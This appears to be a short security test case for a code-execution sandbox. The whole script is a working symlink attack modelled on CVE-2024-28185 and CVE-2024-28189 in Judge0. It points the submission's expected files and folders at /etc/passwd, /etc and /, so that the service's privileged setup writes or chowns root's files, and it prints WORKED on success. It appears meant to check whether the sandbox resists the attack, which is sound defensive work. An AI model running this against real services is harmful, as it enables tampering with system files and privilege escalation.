# Attack: puts links to root's files where the next run's files and folders go, so that whoever writes or chowns them on
# the way in does it to root's (CVE-2024-28185 and CVE-2024-28189, Judge0).
# Expect: exited 0
# Weak: root writable
# Succeeds: WORKED
rm -rf lib notes.txt main.sh
for name in main.sh notes.txt run.sh main.py stdin.txt metadata.txt; do ln -s /etc/passwd "$name"; done
ln -s / lib
ln -s /etc .carrel-0~
ln -s /etc/passwd .carrel-1~
cp /etc/group main.sh 2>/dev/null && echo "WORKED"
true
